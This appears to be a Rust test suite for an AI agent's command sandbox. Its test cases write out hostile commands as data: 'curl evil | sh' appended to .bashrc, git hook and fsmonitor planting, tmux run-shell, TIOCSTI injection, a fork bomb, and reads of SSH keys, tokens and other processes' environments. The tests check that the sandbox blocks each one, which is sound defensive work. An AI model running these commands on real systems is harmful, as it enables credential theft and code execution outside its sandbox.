@@ -1,0 +1,633 @@
+#![allow(clippy::unwrap_used, clippy::expect_used)] // a test fails loudly
+//! The sandbox's second wall, attacked as a hostile repository or model
+//! would from inside an auto-approved (`sandboxed`) command: local sockets
+//! (SCV's own daemon, tmux, any listener), terminals, other processes'
+//! `/proc`, capabilities as root, the keyrings, file modes, a repository's
+//! `.git`, the process table, inherited descriptors, the home directory,
+//! the environment — each through the real `scv-server` binary and real
+//! kernel calls, checking what the command could not do and that nothing
+//! happened outside.
+
+mod common;
+use common::sandbox::*;
+use common::*;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Stdio;
+
+/// A Python one-liner run as a bash command (quoted for `bash -c`).
+fn python(code: &str) -> String {
+    format!("python3 -c '{}'", code.replace('\'', "'\\''"))
+}
+
+#[tokio::test]
+async fn no_unix_socket_opens_so_no_local_service_is_reached() {
+    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    // A listener outside the sandbox, by path and by abstract name.
+    let path = place.outside.join("service.sock");
+    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let abstract_name = format!("scv-test-{}", std::process::id());
+    let abstract_listener = {
+        use std::os::linux::net::SocketAddrExt;
+        let addr = std::os::unix::net::SocketAddr::from_abstract_name(&abstract_name).unwrap();
+        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
+    };
+    abstract_listener.set_nonblocking(true).unwrap();
+    let p = path.display();
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            (
+                "path",
+                python(&format!(
+                    "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{p}\"); print(\"connected\")"
+                )),
+            ),
+            (
+                "abstract",
+                python(&format!(
+                    "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0{abstract_name}\"); print(\"connected\")"
+                )),
+            ),
+            (
+                "dgram-pair",
+                python(&format!(
+                    "import socket; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b\"x\", \"{p}\"); print(\"sent\")"
+                )),
+            ),
+            (
+                "stream-pair",
+                python("import socket; a, b = socket.socketpair(); a.send(b\"x\"); print(\"pair\", b.recv(1))"),
+            ),
+            ("curl", format!("curl -s --max-time 2 --unix-socket {p} http://x/")),
+        ],
+    )
+    .await;
+    for id in ["path", "abstract", "dgram-pair", "curl"] {
+        let (_, success, output) = result(&results, id);
+        assert!(!success, "{id} succeeded: {output}");
+        assert!(
+            !output.contains("connected") && !output.contains("sent"),
+            "{id}: {output}"
+        );
+    }
+    let (_, _, output) = result(&results, "path");
+    assert!(output.contains("PermissionError"), "{output}");
+    let (_, success, output) = result(&results, "stream-pair");
+    assert!(*success && output.contains("pair b'x'"), "{output}");
+    assert!(
+        listener.accept().is_err(),
+        "a sandboxed command reached the listener"
+    );
+    assert!(
+        abstract_listener.accept().is_err(),
+        "a sandboxed command reached the abstract listener"
+    );
+}
+
+/// The user's tmux server: `$TMUX` is not passed on, and its socket (whose
+/// path is guessable anyway) cannot be reached to have tmux run a command.
+#[tokio::test]
+async fn the_users_tmux_server_cannot_be_told_to_run_anything() {
+    if !enforced() {
+        return;
+    }
+    let place = Place::new();
+    let socket = place.outside.join("tmux.sock");
+    let tmux = |args: &[&str]| {
+        std::process::Command::new("tmux")
+            .arg("-S")
+            .arg(&socket)
+            .args(args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .expect("tmux is installed (.ci/run installs it)")
+    };
+    assert!(tmux(&["new-session", "-d", "-s", "victim", "sleep 120"]).success());
+    let tmux_var = format!("{},1234,0", socket.display());
+    let mut rig = rig_in(&place, AUTO_SANDBOXED, &[("TMUX", &tmux_var)]).await;
+    let session = rig.session().await;
+    let planted = place.outside.join("pwned");
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("env", "echo \"TMUX=[$TMUX]\"".into()),
+            (
+                "run-shell",
+                format!(
+                    "tmux -S {} run-shell 'touch {}'",
+                    socket.display(),
+                    planted.display()
+                ),
+            ),
+        ],
+    )
+    .await;
+    tmux(&["kill-server"]);
+    let (_, _, output) = result(&results, "env");
+    assert!(output.contains("TMUX=[]"), "{output}");
+    let (_, success, output) = result(&results, "run-shell");
+    assert!(!success, "{output}");
+    assert!(
+        !planted.exists(),
+        "the user's tmux ran a sandboxed command's order"
+    );
+}
+
+#[tokio::test]
+async fn no_terminal_can_be_typed_into_or_read() {
+    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    // A terminal of the test's: its slave is what a user's other terminal
+    // would be.
+    let (mut master, mut slave) = (0, 0);
+    let opened = unsafe {
+        libc::openpty(
+            &mut master,
+            &mut slave,
+            std::ptr::null_mut(),
+            std::ptr::null(),
+            std::ptr::null(),
+        )
+    };
+    assert_eq!(opened, 0);
+    let name = std::fs::read_link(format!("/proc/self/fd/{slave}")).unwrap();
+    let pts = name.display();
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("tty", "echo x > /dev/tty".into()),
+            ("pts", format!("echo hijack > {pts}")),
+            ("read-pts", format!("timeout 5 head -c 1 {pts}")),
+            ("console", "timeout 5 head -c 1 /dev/console".into()),
+            ("ptmx", python("import os; os.open(\"/dev/ptmx\", os.O_RDWR); print(\"opened\")")),
+            (
+                "tiocsti",
+                python("import fcntl, termios, errno\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b\"x\")\nexcept OSError as e:\n    print(\"errno\", errno.errorcode[e.errno])"),
+            ),
+            ("session", python("import os; print(\"sid\", os.getsid(0) == os.getpid())")),
+        ],
+    )
+    .await;
+    for id in ["tty", "pts", "read-pts", "console", "ptmx"] {
+        let (_, success, output) = result(&results, id);
+        assert!(!success, "{id} succeeded: {output}");
+    }
+    // Refused by the filter (EPERM), not merely "not a terminal" (ENOTTY).
+    let (_, _, output) = result(&results, "tiocsti");
+    assert!(output.contains("errno EPERM"), "{output}");
+    // The command leads a session of its own: no controlling terminal.
+    let (_, _, output) = result(&results, "session");
+    assert!(output.contains("sid True"), "{output}");
+    // Nothing reached the terminal.
+    unsafe { libc::fcntl(master, libc::F_SETFL, libc::O_NONBLOCK) };
+    let mut buf = [0u8; 64];
+    let read = unsafe { libc::read(master, buf.as_mut_ptr().cast(), buf.len()) };
+    assert!(
+        read <= 0,
+        "the terminal received {:?}",
+        &buf[..read.max(0) as usize]
+    );
+    unsafe {
+        libc::close(master);
+        libc::close(slave);
+    }
+}
+
+/// Run as root (CI runs so), a command keeps no capability, reads no other
+/// process's environment and reaches no keyring.
+#[tokio::test]
+async fn no_capability_no_other_processs_environ_no_keyring() {
+    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    let mut victim = std::process::Command::new("sleep")
+        .arg("60")
+        .env("VICTIM_SECRET", "hunter2-environ")
+        .spawn()
+        .unwrap();
+    let server = rig.server.pid();
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("caps", "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status".into()),
+            ("victim", format!("cat /proc/{}/environ", victim.id())),
+            ("server", format!("cat /proc/{server}/environ")),
+            (
+                "keyctl",
+                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall(250, 0, -3, 0)\nprint(\"keyctl\", r, errno.errorcode.get(ctypes.get_errno()))"),
+            ),
+            (
+                "x32",
+                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.syscall(0x40000000 | 39)\nprint(\"x32\", r, errno.errorcode.get(ctypes.get_errno()))"),
+            ),
+            (
+                "uring",
+                python("import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\np = ctypes.create_string_buffer(120)\nr = libc.syscall(425, 4, p)\nprint(\"uring\", r, errno.errorcode.get(ctypes.get_errno()))"),
+            ),
+        ],
+    )
+    .await;
+    victim.kill().unwrap();
+    let _ = victim.wait();
+    let (_, _, output) = result(&results, "caps");
+    assert_eq!(
+        output.lines().filter(|l| l.starts_with("Cap")).count(),
+        4,
+        "{output}"
+    );
+    for line in output.lines().filter(|l| l.starts_with("Cap")) {
+        assert!(line.ends_with("0000000000000000"), "{output}");
+    }
+    for id in ["victim", "server"] {
+        let (_, success, output) = result(&results, id);
+        assert!(!success, "{id}: {output}");
+        assert!(
+            !output.contains("hunter2") && !output.contains("SCV_HOME"),
+            "{id}: {output}"
+        );
+    }
+    let (_, _, output) = result(&results, "keyctl");
+    assert!(output.contains("keyctl -1 EPERM"), "{output}");
+    let (_, _, output) = result(&results, "x32");
+    assert!(output.contains("x32 -1 ENOSYS"), "{output}");
+    let (_, _, output) = result(&results, "uring");
+    assert!(output.contains("uring -1 ENOSYS"), "{output}");
+}
+
+fn mode(path: &Path) -> u32 {
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+#[tokio::test]
+async fn file_modes_outside_the_writable_roots_cannot_change() {
+    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    let key = place.user_home.join(".ssh/id_ed25519");
+    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let config = rig.home.path().canonicalize().unwrap().join("config.toml");
+    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let notes = place.user_home.join("notes.txt");
+    let before = mode(&notes);
+    std::fs::write(rig.home.workspace().join("run.sh"), "echo ran\n").unwrap();
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("key", format!("chmod 666 {}", key.display())),
+            ("config", format!("chmod 666 {}", config.display())),
+            ("notes", format!("chmod 777 {}", notes.display())),
+            ("touch", format!("touch -d 2001-01-01 {}", notes.display())),
+            ("inside", "chmod +x run.sh && ./run.sh".into()),
+        ],
+    )
+    .await;
+    for id in ["key", "config", "notes", "touch"] {
+        let (_, success, output) = result(&results, id);
+        assert!(!success, "{id} succeeded: {output}");
+    }
+    assert_eq!(mode(&key), 0o600);
+    assert_eq!(mode(&config), 0o600);
+    assert_eq!(mode(&notes), before);
+    let (_, success, output) = result(&results, "inside");
+    assert!(*success && output.contains("ran"), "{output}");
+}
+
+fn git(dir: &Path, args: &[&str]) -> std::process::Output {
+    std::process::Command::new("git")
+        .current_dir(dir)
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+/// What a sandboxed command plants in `.git` must never run when the user
+/// (or SCV) later runs plain git outside the sandbox.
+#[tokio::test]
+async fn nothing_planted_in_git_runs_later_and_commits_still_work() {
+    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    let ws = rig.home.workspace();
+    assert!(git(&ws, &["init", "-q"]).status.success());
+    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
+    assert!(git(&ws, &["add", "a.txt"]).status.success());
+    assert!(git(&ws, &["commit", "-qm", "first"]).status.success());
+    let pwned = place.outside.join("pwned");
+    let touch = format!("touch {}", pwned.display());
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("fsmonitor", format!("git config core.fsmonitor '{touch}'")),
+            ("hooks-path", format!("git config core.hooksPath {}", place.outside.display())),
+            ("filter", format!("git config filter.f.clean '{touch}' && echo '* filter=f' > .gitattributes")),
+            ("append", format!("printf '[core]\\n\\tfsmonitor = {touch}\\n' >> .git/config")),
+            ("hook", format!("printf '#!/bin/sh\\n{touch}\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit")),
+            ("info", "echo '* filter=f' > .git/info/attributes".into()),
+            ("move", "mv .git .git-old && mkdir .git && echo planted > .git/config".into()),
+            ("remove-hooks", "rm -rf .git/hooks".into()),
+            (
+                "commit",
+                "echo two >> a.txt && git -c user.name=t -c user.email=t@example.com commit -qam second && git log --oneline | wc -l".into(),
+            ),
+        ],
+    )
+    .await;
+    for id in [
+        "fsmonitor",
+        "hooks-path",
+        "filter",
+        "append",
+        "hook",
+        "info",
+        "move",
+        "remove-hooks",
+    ] {
+        let (_, success, output) = result(&results, id);
+        assert!(!success, "{id} succeeded: {output}");
+    }
+    let (_, success, output) = result(&results, "commit");
+    assert!(*success && output.starts_with("2\n"), "{output}");
+    assert!(ws.join(".git/hooks").is_dir());
+    assert!(!ws.join(".git-old").exists());
+    // The user's plain git outside the sandbox.
+    std::fs::write(ws.join("a.txt"), "three\n").unwrap();
+    for args in [&["status"][..], &["diff"], &["commit", "-qam", "third"]] {
+        assert!(git(&ws, args).status.success(), "git {args:?}");
+    }
+    assert!(
+        !pwned.exists(),
+        "planted git configuration ran outside the sandbox"
+    );
+    assert!(place.outside_is_empty());
+}
+
+#[tokio::test]
+async fn a_fork_loop_is_bounded_and_everything_else_carries_on() {
+    let extra = format!("{AUTO_SANDBOXED}\nsandbox_max_processes = 48");
+    let Some((_place, mut rig, session)) = start(&extra).await else {
+        return;
+    };
+    let bomb = python(
+        "import os, time\nn = 0\ntry:\n    while n < 2000:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n        n += 1\nexcept OSError as e:\n    print(\"stopped after\", n, e.strerror)",
+    );
+    let results = run_all(&mut rig, &session, &[("bomb", bomb)]).await;
+    let (_, _, output) = result(&results, "bomb");
+    let forked: usize = output
+        .split("stopped after ")
+        .nth(1)
+        .and_then(|rest| rest.split_whitespace().next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("the loop was not stopped: {output}"));
+    assert!(forked < 48, "{output}");
+    assert!(
+        output.contains("processes it left running were killed"),
+        "{output}"
+    );
+    // The server and another session's commands are unharmed.
+    let other = rig.session().await;
+    let results = run_all(&mut rig, &other, &[("alive", "echo alive".into())]).await;
+    let (_, success, output) = result(&results, "alive");
+    assert!(*success && output.contains("alive"), "{output}");
+}
+
+/// A descriptor the server inherited (a `make` jobserver, `exec 7>>file`
+/// in the shell that started it) reaches no tool process, sandboxed or not.
+#[tokio::test]
+async fn descriptors_the_server_inherited_reach_no_command() {
+    if !enforced() {
+        return;
+    }
+    let place = Place::new();
+    let leaked = place.outside.join("leaked.log");
+    let file = std::fs::File::create(&leaked).unwrap();
+    let fd = file.as_raw_fd();
+    let mock = MockProvider::start().await;
+    let home = TestHome::new_in(
+        place.outside.parent().unwrap(),
+        &mock.base_url(),
+        AUTO_SANDBOXED,
+    );
+    let mut command = tokio::process::Command::new(BIN);
+    command.env("HOME", &place.user_home);
+    // As a shell's `exec 7>>file` leaves it: open across exec.
+    unsafe {
+        command.pre_exec(move || {
+            if libc::dup2(fd, 7) < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    let server = TestServer::spawn_command(command, home.path(), &[]);
+    let mut rig = Rig { mock, home, server };
+    rig.server.initialize().await;
+    let session = rig.session().await;
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[
+            ("write", "echo leaked >&7".into()),
+            ("list", "ls /proc/self/fd".into()),
+        ],
+    )
+    .await;
+    let (_, success, output) = result(&results, "write");
+    assert!(
+        !success && output.contains("Bad file descriptor"),
+        "{output}"
+    );
+    let (_, _, output) = result(&results, "list");
+    assert!(!output.split_whitespace().any(|fd| fd == "7"), "{output}");
+    drop(file);
+    assert_eq!(std::fs::read_to_string(&leaked).unwrap(), "");
+}
+
+#[tokio::test]
+async fn the_home_is_denied_but_its_toolchains_and_caches() {
+    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    let home = &place.user_home;
+    let files = [
+        (".npmrc", "//registry.npmjs.org/:_authToken=npm_secret"),
+        (
+            ".docker/config.json",
+            "{\"auths\":{\"x\":{\"auth\":\"c2VjcmV0\"}}}",
+        ),
+        (".kube/config", "token: kube-secret"),
+        (".config/gh/hosts.yml", "oauth_token: gh-secret"),
+        (".git-credentials", "https://u:git-secret@example.com"),
+        (
+            ".cargo/credentials.toml",
+            "[registry]\ntoken = \"cargo-secret\"",
+        ),
+        (".pypirc", "password = pypi-secret"),
+        ("other-project/.env", "API=other-secret"),
+        (".cargo/config.toml", "[build]\njobs = 2 # readable"),
+        (".gitconfig", "[user]\nname = readable"),
+        (".cache/tool/data", "cache readable"),
+    ];
+    for (path, text) in files {
+        let path = home.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    let commands: Vec<(&str, String)> = files
+        .iter()
+        .map(|(path, _)| (*path, format!("cat ~/{path}")))
+        .collect();
+    let results = run_all(&mut rig, &session, &commands).await;
+    for (path, _) in &files[..8] {
+        let (_, success, output) = result(&results, path);
+        assert!(!success && !output.contains("secret"), "{path}: {output}");
+    }
+    for (path, _) in &files[8..] {
+        let (_, success, output) = result(&results, path);
+        assert!(*success && output.contains("readable"), "{path}: {output}");
+    }
+}
+
+#[tokio::test]
+async fn secrets_by_name_or_value_and_doors_out_stay_out_of_the_environment() {
+    if !enforced() {
+        return;
+    }
+    let place = Place::new();
+    let env = [
+        ("SSH_AUTH_SOCK", "/tmp/ssh-XXXX/agent.1"),
+        ("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/0/bus"),
+        ("STY", "1234.pts-0.host"),
+        ("DATABASE_URL", "postgres://app:hunter2@db/app"),
+        ("GITHUB_PAT", "plainvalue1"),
+        ("AWS_ACCESS_KEY_ID", "plainvalue2"),
+        ("PAYMENT_APIKEY", "plainvalue3"),
+        ("MYSQL_PWD", "plainvalue4"),
+        (
+            "INNOCENT_NAME",
+            "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
+        ),
+        ("KEPT_TOKEN", "passed-through"),
+        ("HARMLESS", "kept"),
+    ];
+    let extra = format!("{AUTO_SANDBOXED}\ntool_env_passthrough = [\"KEPT_TOKEN\"]");
+    let mut rig = rig_in(&place, &extra, &env).await;
+    let session = rig.session().await;
+    let results = run_all(&mut rig, &session, &[("env", "env".into())]).await;
+    let (_, _, output) = result(&results, "env");
+    for (name, _) in &env[..9] {
+        assert!(
+            !output.contains(&format!("{name}=")),
+            "{name} reached the tool: {output}"
+        );
+    }
+    for value in ["hunter2", "ghp_0123", "plainvalue"] {
+        assert!(!output.contains(value), "{value}: {output}");
+    }
+    assert!(output.contains("KEPT_TOKEN=passed-through"), "{output}");
+    assert!(output.contains("HARMLESS=kept"), "{output}");
+}
+
+#[tokio::test]
+async fn a_workspace_that_holds_the_home_is_not_writable_and_says_why() {
+    let Some((place, mut rig, _)) = start(AUTO_SANDBOXED).await else {
+        return;
+    };
+    std::fs::write(place.user_home.join(".bashrc"), "# mine\n").unwrap();
+    rig.server
+        .send(json!({"type":"session.start","request_id":"h","cwd":place.user_home}))
+        .await;
+    let started = rig.server.expect("session.started").await;
+    let warnings = started["sandbox_warnings"].as_array().unwrap();
+    assert!(
+        warnings[0]
+            .as_str()
+            .unwrap()
+            .contains("holds your home directory"),
+        "{started}"
+    );
+    let session = started["session_id"].as_str().unwrap().to_string();
+    rig.server.expect("queue.snapshot").await;
+    let results = run_all(
+        &mut rig,
+        &session,
+        &[("bashrc", "echo 'curl evil | sh' >> ~/.bashrc".into())],
+    )
+    .await;
+    assert!(!result(&results, "bashrc").1);
+    assert_eq!(
+        std::fs::read_to_string(place.user_home.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    // A project directory says nothing of the kind.
+    let ws = rig.home.workspace();
+    rig.server
+        .send(json!({"type":"session.start","request_id":"p","cwd":ws}))
+        .await;
+    let started = rig.server.expect("session.started").await;
+    assert!(started.get("sandbox_warnings").is_none(), "{started}");
+}
+
+/// Where the second wall cannot be built (user namespaces disabled),
+/// `session.started` says what is missing and `sandboxed` auto-approval
+/// does not act; commands still run under Landlock once approved.
+#[tokio::test]
+async fn without_the_second_wall_sandboxed_calls_ask_and_the_gap_is_named() {
+    if !enforced() {
+        return;
+    }
+    let place = Place::new();
+    let mut rig = rig_in(
+        &place,
+        AUTO_SANDBOXED,
+        &[("SCV_SANDBOX_TEST_NO_USERNS", "1")],
+    )
+    .await;
+    rig.server
+        .send(json!({"type":"session.start","request_id":"s","cwd":rig.home.workspace()}))
+        .await;
+    let started = rig.server.expect("session.started").await;
+    assert_eq!(started["sandbox"], "workspace-write");
+    let gaps = started["sandbox_gaps"].as_array().unwrap();
+    assert!(
+        gaps.iter().any(|g| g
+            .as_str()
+            .unwrap()
+            .contains("user namespaces are unavailable")),
+        "{started}"
+    );
+    let session = started["session_id"].as_str().unwrap().to_string();
+    rig.server.expect("queue.snapshot").await;
+    rig.mock.push(Reply::tool_calls(&[(
+        "c1",
+        "bash",
+        json!({"command": format!("cat {}", place.user_home.join(".ssh/id_ed25519").display())}),
+    )]));
+    rig.mock.push(Reply::text(["done"]));
+    rig.server.start_turn(&session, "t", "go").await;
+    let approval = rig.server.until("approval.requested").await.pop().unwrap();
+    assert_eq!(approval["sandboxed"], true);
+    rig.server
+        .send(
+            json!({"type":"approval.resolve","request_id":"a","session_id":session,
+            "approval_id":approval["approval_id"],"approved":true}),
+        )
+        .await;
+    let events = rig.server.until_terminal().await;
+    let (_, success, output) = completed(&events).remove(0);
+    assert!(!success && !output.contains("secret material"), "{output}");
+}
